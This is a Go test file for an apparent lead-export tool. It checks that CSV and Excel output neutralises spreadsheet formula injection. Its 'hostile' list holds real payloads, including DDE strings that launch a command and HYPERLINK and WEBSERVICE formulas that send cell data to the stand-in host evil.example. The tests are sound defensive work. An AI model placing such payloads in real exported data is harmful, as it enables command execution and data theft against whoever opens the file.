package transfer

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"github.com/leadflip/leadflip/internal/lead"
)

// hostile are texts that some spreadsheet computes, sends or runs.
var hostile = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example?x="&A1,"click")`, `=WEBSERVICE("https://evil.example")`,
	" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x00=1+1", "\u00a0=1+1", "\u2003=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1", "\u2028=1+1", "\x0b\x0c=1+1", "\x7f\u0085=1+1",
	"\tabc", "\rabc", "\x00abc", " \tabc", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "-", "+", "=", "@", "-2+3+cmd|' /C calc'!A0", `"=1+1"`, `",=1+1`, "+49 30 901820", "-5", "+4930901820", "=\"", `'=1+1`, "\xff=1+1",
}

// dangerous tells whether a cell as it is read could be computed: it is written once
// more, the way the promise has it.
func dangerous(cell string) bool {
	visible := strings.TrimLeftFunc(cell, func(r rune) bool {
		return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == utf8.RuneError
	})
	return strings.ContainsAny(strings.TrimSuffix(cell, visible), "\t\r\x00") || visible != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(visible)[0])
}

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for _, k := range []kind{anyText, number, phoneNo} {
		for _, text := range hostile {
			line := append(appendCell([]byte("a,"), []byte(text), k), ",z\r\n"...)
			row, err := csv.NewReader(bytes.NewReader(line)).Read()
			if err != nil || len(row) != 3 {
				t.Fatalf("%q is written as %q, which is no row: %v", text, line, err)
			}
			plain := k == number && text == "-5" || k == phoneNo && text == "+4930901820"
			if plain != (row[1] == text) && dangerous(text) {
				t.Errorf("%q in a column of kind %d is read as %q", text, k, row[1])
			}
			if dangerous(row[1]) && !plain {
				t.Errorf("%q in a column of kind %d is a formula: %q", text, k, row[1])
			}
			if !dangerous(text) && row[1] != strings.ReplaceAll(text, "\r\n", "\n") {
				t.Errorf("the harmless %q is read as %q", text, row[1])
			}
		}
	}
}

// Whatever a cell holds is read as it was written, but for the apostrophe.
func TestCellsAreReadAsTheyWereWritten(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		texts := rapid.SliceOfN(rapid.OneOf(rapid.String(), rapid.StringMatching(`[ =+@"',;\n\ta-z0-9.-]{0,8}`)), 1, 6).Draw(rt, "cells")
		line := []byte("x")
		for _, text := range texts {
			line = appendCell(append(line, ','), []byte(text), anyText)
		}
		row, err := csv.NewReader(bytes.NewReader(append(line, "\r\n"...))).Read()
		if err != nil || len(row) != len(texts)+1 {
			rt.Fatalf("%q: %v", line, err)
		}
		for i, text := range texts {
			want := strings.ReplaceAll(text, "\r\n", "\n")
			begin, _ := utf8.DecodeRuneInString(text)
			guarded := row[i+1] == "'"+want
			if !guarded && row[i+1] != want || !guarded && dangerous(text) || guarded && unicode.In(begin, unicode.L, unicode.N) {
				rt.Fatalf("%q is read as %q", text, row[i+1])
			}
		}
	})
}

// one is a table of one column that shows the source of leads.
func one(k kind) []column {
	return []column{{"c", "C", k, func(b []byte, l *lead.Lead) []byte { return append(b, l.Source...) }}}
}

func TestSheetsHoldAnyText(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("ä", maxCell-1) + "🌞"
	texts := append([]string{"_x0041_", "_x000D_ \r", "<b>&amp;</b>", "]]>", "  spaces  ", "a\x01\x1fb", "\ufffe\uffff", "🌞", "1e5", "0012", long}, hostile...)
	for _, k := range []kind{anyText, number} {
		var file bytes.Buffer
		tab, err := newXLSX(&file, one(k), strings.Repeat("long_name", 5))
		if err != nil {
			t.Fatal(err)
		}
		b := tab.appendHeader(nil, false)
		for _, text := range texts {
			b = tab.appendLead(b, &lead.Lead{Source: text})
		}
		if _, err := tab.sheet.Write(b); err != nil {
			t.Fatal(err)
		}
		if err := tab.close(); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(file.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		name := f.GetSheetName(0)
		for i, text := range texts {
			cell, _ := excelize.CoordinatesToCellName(1, i+2)
			got, err := f.GetCellValue(name, cell)
			formula, _ := f.GetCellFormula(name, cell)
			want := strings.ToValidUTF8(text, "\ufffd")
			if text == long {
				want = strings.Repeat("ä", maxCell-1) + "…"
			}
			if err != nil || got != want || formula != "" {
				t.Errorf("%.40q is read as %.40q, formula %q, %v", text, got, formula, err)
			}
		}
		_ = f.Close()
	}
}

func TestNumbersOfASheet(t *testing.T) {
	t.Parallel()
	for text, isNumber := range map[string]bool{
		"0": true, "-5": true, "1.5": true, "999999999999999": true, "-0.00000123456789012345": true, "0.123456789012345": true,
		"1234567890123456": false, "12345678.123456789": false, "abc": false, "+5": false, "1.": false, ".5": false, "-": false, "1.2.3": false, "0012": false, "-012": false, "00.5": false,
	} {
		tab := &xlsxTable{columns: one(number)}
		if got := string(tab.appendLead(nil, &lead.Lead{Source: text})); strings.Contains(got, "<v>"+text+"</v>") != isNumber {
			t.Errorf("%s: %s", text, got)
		}
	}
}
